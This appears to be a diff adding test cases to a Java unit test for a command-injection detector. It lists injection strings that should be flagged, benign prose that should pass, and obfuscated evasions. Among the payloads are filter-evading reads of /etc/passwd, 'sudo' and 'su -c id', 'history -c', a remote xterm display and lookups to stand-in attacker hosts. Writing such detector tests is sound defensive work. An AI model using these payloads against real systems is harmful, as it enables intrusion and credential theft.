@@ -52,7 +52,8 @@ class CmdiDetectorTest {
     ";awk 'BEGIN{print 1}'", "x|dig attacker.example", "x;whois evil.example", "x;last -n 5", "x|top -b",
     "x;lsmod", "x;tar -czf /tmp/w.tgz /var/www", "x;echo hi > /tmp/x;touch ./y",
     ";regedit HKLM\\Software\\Microsoft", "x & runas /user:admin cmd", "x | forfiles /p c:\\windows /c \"cmd /c dir\"",
-    "x&&winget install x"
+    "x&&winget install x", "x;sudo -u root id", "x;nice -n 19 whoami", "x;eval id", "x;su -c id", "x;id>/tmp/x",
+    "x & timeout /t 5", "x;xterm -display 10.0.0.1:1", "x;history -c"
   })
   void commandsOfEveryKindAreKnownAfterASeparator(String value) {
     assertRule("cmdi.separator-command", value);
@@ -64,7 +65,9 @@ class CmdiDetectorTest {
     "Dig in | the food is great", "first|last", "bottom|top", "roles=admin|users", "fast|free", "golf & tee -time",
     "Please cp me on the thread; thanks", "Date format: dd/mm/yyyy; time zone UTC", "hello; time he came",
     "I went to the store; cut the price in half", "rock & roll; top 10 hits", "the tar pit | dig site",
-    "x; touch up the photo", "Who did it? | who knows", "Ticket 4411; the file C:\\Users\\anna\\report.docx is lost"
+    "x; touch up the photo", "Who did it? | who knows", "Game over; timeout 30", "x; nice -looking car",
+    "Sleepy; eval is evil", "Gracias; su casa", "python -m venv .venv && source .venv/bin/activate", "x; sudo -i",
+    "a history; history of art", "Your id > 5", "Ticket 4411; the file C:\\Users\\anna\\report.docx is lost"
   })
   void englishWordsThatNameCommandsPassInProse(String value) {
     assertNull(detect(value), () -> "flagged: " + value);
@@ -111,7 +114,8 @@ class CmdiDetectorTest {
     ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
     ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
     ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i", "wh'oami", "w\"hoami", "''whoa'mi",
-    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x", "x;c$!at /etc/passwd", "x;c$?at /etc/passwd",
+    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x", "x;c$!at /etc/passwd", ";$SHELL -c id",
+    ";${SHELL} -c 'id'", ";$BASH -c id", "x;c$?at /etc/passwd",
     "x;who$$ami", "x;/bin/ca? /etc/passwd", "x;/usr/bin/wh?ami", "a=c;b=at;$a$b /etc/passwd",
     "c1=c;c2=at;$c1$c2 /etc/passwd", "ti''me curl example.com", ";$0 -c id", "x;$0 -c 'cat /etc/passwd'"
   })
